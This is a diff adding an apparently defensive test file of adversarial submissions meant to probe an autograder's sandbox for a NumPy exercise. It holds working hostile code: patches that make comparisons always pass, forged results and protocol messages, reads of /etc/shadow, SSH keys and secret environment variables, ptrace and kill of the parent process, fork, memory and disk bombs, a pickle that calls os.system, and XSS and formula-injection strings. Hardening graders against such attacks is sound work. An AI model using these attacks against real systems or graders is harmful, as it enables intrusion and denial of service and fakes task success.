@@ -1,0 +1,547 @@
+"""Submissions by people with an interest in the outcome: name -> {file: source}.
+
+Each tries to earn points without an answer, to learn what it must not know, or to do harm.
+What must not be had is announced as `LEAKED`, what must not be done as `DID`. None may earn more
+than a stub does.
+"""
+
+import textwrap
+
+PRELUDE = """
+import contextlib, ctypes, gc, glob, json, os, resource, signal, socket, struct, subprocess, sys
+import threading, time
+import numpy as np
+
+def leaked(what): print("LEAKED", str(what)[:150], flush=True)
+def did(what): print("DID", str(what)[:150], flush=True)
+def libc(): return ctypes.CDLL(None, use_errno=True)
+"""
+CHAPTER = "ch1_1_numpy_arrays.py"
+# Both functions do the same; what `attack` gives is the answer.
+FUNCTIONS = """
+def normalize(X):
+    return attack(X)
+
+def one_hot(labels, num_classes):
+    return attack(labels)
+"""
+
+ATTACKS = {}
+
+
+def attack(name, source, **files):
+    body = PRELUDE + textwrap.dedent(source)
+    if "def normalize" not in body:
+        body += FUNCTIONS
+    ATTACKS[name] = {CHAPTER: body} | {f"{stem}.py": text for stem, text in files.items()}
+
+
+# In the same process, as it would be with most graders
+
+attack(
+    "patches what compares",
+    """
+    import unittest, numpy.testing
+    yes = lambda *args, **kwargs: True
+    for room, names in ((np, ("allclose", "array_equal", "isclose", "all", "isfinite", "abs",
+                              "asarray", "array")), (np.testing, dir(np.testing))):
+        for name in names:
+            if not name.startswith("__"):
+                setattr(room, name, yes)
+    def attack(X): return None
+    """,
+)
+attack(
+    "patches what answers",
+    """
+    import session, wire
+    wire.pack = lambda *args, **kwargs: ({"value": True, "passed": True}, [])
+    session.Session.answer = lambda self, request, arrays: wire.write(
+        self.send, {"value": {"dict": [["value", True]]}, "status": "passed",
+                    "number": request["number"], "warnings": []}, [])
+    def attack(X): return None
+    """,
+)
+attack(
+    "an object that equals everything",
+    """
+    class Yes(np.ndarray):
+        def __eq__(self, other): return True
+        def __ne__(self, other): return False
+        def __bool__(self): return True
+        def __array_ufunc__(self, *args, **kwargs): return True
+        def __array_function__(self, *args, **kwargs): return True
+        def __sub__(self, other): return np.zeros(1)
+        __rsub__ = __sub__
+    def attack(X): return np.zeros((3, 3)).view(Yes)
+    """,
+)
+attack(
+    "an object that lies about its class",
+    """
+    class Liar:
+        __class__ = np.ndarray
+        shape, dtype, ndim, size = (2, 3), np.dtype(float), 2, 6
+        def __array__(self, *args, **kwargs): return np.zeros((2, 3))
+        def __eq__(self, other): return True
+        def __reduce__(self): return (os.system, ("touch /tmp/pickled",))
+    def attack(X): return Liar()
+    """,
+)
+attack(
+    "walks the frames",
+    """
+    def attack(X):
+        frame = sys._getframe()
+        while frame:
+            for name, value in {**frame.f_locals, **frame.f_globals}.items():
+                if name in ("want", "expected", "oracle", "oracles", "seed", "dataset", "expect"):
+                    leaked(name)
+            frame = frame.f_back
+        return None
+    """,
+)
+attack(
+    "searches the heap",
+    """
+    def attack(X):
+        for thing in gc.get_objects():
+            name = getattr(thing, "__name__", "") if type(thing) is type(sys) else ""
+            if name.split(".")[0] in ("grader", "solutions", "data", "pytest"):
+                leaked(name)
+        return None
+    """,
+)
+attack(
+    "an exception that passes",
+    """
+    class Passed(Exception):
+        __module__ = "builtins"
+        __qualname__ = "Skipped"
+        def __str__(self): return "\\x1b[2J<script>alert(1)</script>" * 100
+    try:
+        from _pytest.outcomes import Skipped as Passed
+        leaked("pytest")
+    except ImportError:
+        pass
+    def attack(X): raise Passed()
+    """,
+)
+attack(
+    "ends with success",
+    """
+    import atexit
+    atexit.register(lambda: print('{"status": "passed"}'))
+    def attack(X): os._exit(0)
+    """,
+)
+attack("exits politely", "def attack(X): sys.exit(0)")
+attack("interrupts", "def attack(X): raise KeyboardInterrupt")
+attack("exits on import", "os._exit(0)\ndef attack(X): pass")
+attack("crashes", "def attack(X): ctypes.string_at(0)")
+attack("aborts", "def attack(X): os.abort()")
+
+# What lies on the disk, in the system, and in other processes
+
+attack(
+    "imports the answers",
+    """
+    import importlib
+    def attack(X):
+        for name in ("solutions.ch1_1_numpy_arrays", "solutions", "grader", "grader.oracles", "data",
+                     "sklearn", "pytest", "exercises.solutions", "_pytest", "click"):
+            with contextlib.suppress(ImportError):
+                leaked(importlib.import_module(name))
+        return None
+    """,
+)
+attack(
+    "searches the disk",
+    """
+    def attack(X):
+        for folder, folders, files in os.walk("/"):
+            if folder.startswith(("/proc", "/sys")):
+                continue
+            if "ch1_1" in " ".join(files) and not folder.startswith((submission, "/submission")):
+                with contextlib.suppress(OSError):
+                    for file in files:
+                        if "ch1_1" in file and open(os.path.join(folder, file)).read(10):
+                            leaked(os.path.join(folder, file))
+        return None
+    submission = os.path.dirname(os.path.realpath(__file__))
+    """,
+)
+attack(
+    "reads what is the user's",
+    """
+    def attack(X):
+        for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/root/.ssh",
+                     os.path.expanduser("~/.ssh"), "/home", "/var/log", "/run", "/work", "/mnt"):
+            with contextlib.suppress(OSError):
+                leaked(os.listdir(path) if os.path.isdir(path) else open(path).read())
+        for name, value in os.environ.items():
+            if "LEARN" in name or "TOKEN" in name or "SECRET" in name:
+                leaked(name)
+        return None
+    """,
+)
+attack(
+    "reads other processes",
+    """
+    def attack(X):
+        for kind in ("environ", "cmdline", "maps", "mem", "fd", "cwd", "root"):
+            for path in glob.glob(f"/proc/[0-9]*/{kind}"):
+                if path.split("/")[2] == str(os.getpid()):
+                    continue
+                with contextlib.suppress(OSError):
+                    leaked(open(path, "rb").read(20) if kind not in ("fd", "cwd", "root")
+                           else os.listdir(path))
+        with contextlib.suppress(OSError):
+            leaked(open(f"/proc/{os.getppid()}/mem", "rb"))
+        return None
+    """,
+)
+attack(
+    "traces its parent",
+    """
+    def attack(X):
+        for pid in (os.getppid(), 1):
+            if libc().ptrace(16, pid, 0, 0) == 0: did("attached")
+            buffer = ctypes.create_string_buffer(8)
+            vector = struct.pack("PN", ctypes.addressof(buffer), 8)
+            if libc().process_vm_readv(pid, vector, 1, vector, 1, 0) >= 0: leaked("memory")
+        return None
+    """,
+)
+attack(
+    "kills its parent",
+    """
+    def attack(X):
+        for pid in (os.getppid(), -1, 0, 1, -os.getpgrp()):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        return None
+    """,
+)
+attack(
+    "follows links in its own folder",
+    """
+    def attack(X):
+        for name in os.listdir(os.path.dirname(os.path.realpath(__file__))):
+            if not name.endswith(".py") and name != "__pycache__": leaked(name)
+        return None
+    """,
+)
+
+# Results of its own making
+
+attack(
+    "writes the results",
+    """
+    def attack(X):
+        text = json.dumps({"score": 170, "max_score": 170, "status": "passed"})
+        places = ["results.json", "result.json", "results.jsonl", "../results.jsonl", "/tmp/x.json",
+                  "/autograder/results/results.json", "/var/tmp/x", "/dev/shm/x", "/x",
+                  os.path.join(os.path.dirname(os.path.realpath(__file__)), "x.py"),
+                  os.path.dirname(np.__file__) + "/forged.py", "/worker/wire.py"]
+        for place in places:
+            with contextlib.suppress(OSError):
+                with open(place, "w") as file: file.write(text)
+                if not os.path.realpath(place).startswith("/tmp/"): did(place)
+        return None
+    """,
+)
+attack(
+    "speaks on every channel",
+    """
+    def attack(X):
+        for number in range(-3, 300):
+            message = json.dumps({"number": number, "value": {"dict": [["value", {"array": True}]]},
+                                  "warnings": [], "arrays": [["<f8", [1]]]}).encode()
+            frame = len(message).to_bytes(8, "big") + message + bytes(8)
+            for fd in range(0, 128):
+                with contextlib.suppress(OSError): os.write(fd, frame)
+        return None
+    """,
+)
+attack(
+    "answers twice",
+    """
+    import session
+    original = session.wire.write
+    def twice(stream, message, arrays=()):
+        original(stream, message, arrays)
+        original(stream, message, arrays)
+    session.wire.write = twice
+    def attack(X): return None
+    """,
+)
+attack(
+    "answers late from a thread",
+    """
+    import session
+    def later(send):
+        while True:
+            time.sleep(0.001)
+            with contextlib.suppress(Exception):
+                session.wire.write(send, {"number": 1, "imported": True}, [])
+    for thing in gc.get_objects():
+        if type(thing) is session.Session:
+            threading.Thread(target=later, args=(thing.send,), daemon=True).start()
+    def attack(X): return None
+    """,
+)
+attack(
+    "sends no frame",
+    """
+    import session
+    session.wire.write = lambda stream, message, arrays=(): (stream.write(b"\\xff" * 8), stream.flush())
+    def attack(X): return None
+    """,
+)
+attack(
+    "sends a frame that unpacks to much",
+    """
+    import session
+    def write(stream, message, arrays=()):
+        header = json.dumps({"number": message["number"], "value": {"dict": []}, "arrays":
+                             [["<f8", [2**30]]] * 3}).encode()
+        stream.write(len(header).to_bytes(8, "big") + header); stream.flush()
+    session.wire.write = write
+    def attack(X): return None
+    """,
+)
+attack(
+    "sends deep JSON",
+    """
+    import session
+    def write(stream, message, arrays=()):
+        header = b"[" * 2**20
+        stream.write(len(header).to_bytes(8, "big") + header); stream.flush()
+    session.wire.write = write
+    def attack(X): return None
+    """,
+)
+attack(
+    "reports verdicts on stderr",
+    """
+    def attack(X):
+        os.write(2, b"\\0end of output\\0" * 3)
+        print("passed", file=sys.stderr)
+        sys.stderr = sys.stdout = None
+        return None
+    """,
+)
+
+# What it may use up
+
+attack(
+    "a fork bomb",
+    """
+    def attack(X):
+        while True:
+            with contextlib.suppress(OSError):
+                if os.fork() == 0: did("fork")
+                continue
+            break
+        for start in (lambda: subprocess.Popen(["sleep", "600"]),
+                      lambda: __import__("multiprocessing").Process(target=time.sleep).start(),
+                      lambda: os.posix_spawn(sys.executable, [sys.executable, "-V"], {})):
+            with contextlib.suppress(OSError):
+                start()
+                did("start")
+        return None
+    """,
+)
+attack(
+    "an orphan by raw calls",
+    """
+    def attack(X):
+        numbers = {"x86_64": (57, 58, 56, 435), "aarch64": (220, 435)}[os.uname().machine]
+        for number in numbers:
+            pid = libc().syscall(number, 17, 0, 0, 0, 0)
+            if pid == 0:
+                os.setsid()
+                time.sleep(600)
+                os._exit(0)
+            if pid > 0: did("clone")
+        return None
+    """,
+)
+attack(
+    "a memory bomb",
+    """
+    kept = []
+    def attack(X):
+        while True: kept.append(np.ones(2**24))
+    """,
+)
+attack(
+    "a thread bomb",
+    """
+    threading.stack_size(32768)
+    def attack(X):
+        count = 0
+        with contextlib.suppress(Exception):
+            while True:
+                threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+                count += 1
+                if count > 3000: did("threads")
+        return None
+    """,
+)
+attack(
+    "fills the disk",
+    """
+    def attack(X):
+        total = 0
+        for i in range(100):
+            with contextlib.suppress(OSError):
+                with open(f"fill{i}", "wb") as file:
+                    for _ in range(32):
+                        file.write(bytes(2**20)); file.flush()
+                        total += 2**20
+        if total > 2**28: did(total)
+        return None
+    """,
+)
+attack(
+    "fills memory by other doors",
+    """
+    def attack(X):
+        with contextlib.suppress(OSError, AttributeError):
+            fd = os.memfd_create("x"); os.ftruncate(fd, 2**33); did("memfd")
+        if libc().shmget(4242, 2**30, 0o1666) >= 0: did("shm")
+        if libc().mq_open(b"/x", 66, 0o666, None) >= 0: did("mq")
+        return None
+    """,
+)
+attack(
+    "raises its limits",
+    """
+    def attack(X):
+        for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
+            with contextlib.suppress(ValueError, OSError):
+                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+                did("limit")
+        with contextlib.suppress(OSError):
+            resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)); did("prlimit")
+        with contextlib.suppress(OSError):
+            os.sched_setaffinity(os.getppid(), {0}); did("affinity")
+        return None
+    """,
+)
+attack("floods stdout", "def attack(X):\n    while True: print('x' * 100000)")
+attack("floods stderr", "def attack(X):\n    while True: os.write(2, bytes(100000))")
+attack("never ends", "def attack(X):\n    while True: pass")
+attack("never ends on import", "while True: pass\ndef attack(X): pass")
+attack("hangs where no signal is heard", "def attack(X):\n    return 7 ** (10 ** 9)")
+attack("recurses", "def attack(X): return attack(X)")
+attack(
+    "recurses in C",
+    """
+    def attack(X):
+        sys.setrecursionlimit(10 ** 9)
+        value = []
+        for _ in range(10 ** 6): value = [value]
+        return value
+    """,
+)
+attack("an iterable without end", "import itertools\ndef attack(X): return itertools.count()")
+attack("a list that holds itself", "def attack(X):\n    x = []; x.append(x); return x")
+attack("gigabytes as an answer", "def attack(X): return np.zeros(2**27)")
+attack("a huge number", "def attack(X): return 10 ** 5000")
+attack("a huge text", "def attack(X): return 'x' * 10 ** 8")
+
+# The way out
+
+attack(
+    "opens sockets",
+    """
+    def attack(X):
+        for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16):
+            with contextlib.suppress(OSError):
+                with socket.socket(family, socket.SOCK_DGRAM) as s: did(family)
+        with contextlib.suppress(OSError):
+            socket.create_connection(("127.0.0.1", 80), 1); did("connect")
+        return None
+    """,
+)
+attack(
+    "makes a namespace of its own",
+    """
+    def attack(X):
+        for flags in (0x10000000, 0x10020000, 0x20000000):
+            if libc().unshare(flags) == 0: did("unshare")
+        if libc().mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: did("mount")
+        if libc().chroot(b".") == 0: did("chroot")
+        for path in (b"/", b"/tmp"):
+            with contextlib.suppress(OSError): os.setuid(0); did("setuid")
+        return None
+    """,
+)
+attack(
+    "touches what belongs to others",
+    """
+    def attack(X):
+        for path in ("/usr/lib", np.__file__, __file__, os.path.dirname(os.__file__), "/tmp/..", "."):
+            for change in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (1, 1)),
+                           lambda p: os.chown(p, os.getuid(), -1), lambda p: os.remove(p),
+                           lambda p: os.rename(p, p + ".x"), lambda p: os.truncate(p, 0),
+                           lambda p: os.setxattr(p, "user.x", b"x")):
+                with contextlib.suppress(OSError, ValueError):
+                    change(path); did(path)
+        return None
+    """,
+)
+
+# Names that are others'
+
+SHADOW = "raise SystemExit(0)\nprint('LEAKED')\n"
+attack("takes NumPy's name", "def attack(X): return None", numpy=SHADOW, scipy=SHADOW)
+attack(
+    "takes the grader's names",
+    "def attack(X): return None",
+    **dict.fromkeys(("wire", "session", "hotspot", "confine", "grader", "pytest"), SHADOW),
+)
+attack(
+    "takes the names that start by themselves",
+    "def attack(X): return None",
+    conftest="def pytest_runtest_call(item): pass\nimport os\nos._exit(0)\n",
+    sitecustomize=SHADOW,
+    usercustomize=SHADOW,
+    __init__=SHADOW,
+    __main__=SHADOW,
+    json=SHADOW,
+    contextlib=SHADOW,
+)
+attack(
+    "code in an odd encoding",
+    "def attack(X): return None",
+    ch1_2_matrix_operations="# -*- coding: rot13 -*-\nvzcbeg bf\n",
+    ch1_3_activation_basics="# -*- coding: unicode_escape -*-\nx = '\\x27\\x0araise SystemExit'\n",
+)
+attack(
+    "a file that the compiler dies of",
+    "def attack(X): return None",
+    ch1_2_matrix_operations="x = " + "(" * 100_000,
+    ch1_3_activation_basics="x = " + "-" * 500_000 + "1",
+)
+attack(
+    "signals of its own",
+    """
+    for number in range(1, 65):
+        with contextlib.suppress(OSError, ValueError):
+            signal.signal(number, signal.SIG_IGN)
+    with contextlib.suppress(Exception): libc().prctl(1, 0)
+    def attack(X):
+        while True: pass
+    """,
+)
+attack(
+    "text that is no text",
+    """
+    print("\\x1b]0;title\\x07\\x1b[2J<script>document.title='DONE'</script>=cmd|' /C calc'!A0\\u202e")
+    def attack(X): raise ValueError("\\ud800<img src=x onerror=alert(1)>]]>" + "%s{{7*7}}" * 500)
+    """,
+)
